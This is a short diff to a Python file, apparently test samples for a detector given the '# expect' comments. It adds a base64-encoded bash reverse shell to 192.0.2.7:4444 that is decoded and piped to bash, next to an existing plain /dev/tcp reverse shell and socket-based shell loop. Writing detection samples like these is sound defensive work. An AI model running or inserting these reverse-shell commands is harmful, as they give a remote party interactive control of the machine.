@@ -1,3 +1,4 @@
+import base64
 import os
 import pty
 import socket
@@ -32,3 +33,6 @@ def bound():
 os.system("bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'")  # expect
 bound()
 Shell("192.0.2.1", 4444).loop()
+
+line = "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1"
+os.system("echo %s|base64 -d|bash" % base64.b64encode(line.encode()).decode())  # expect
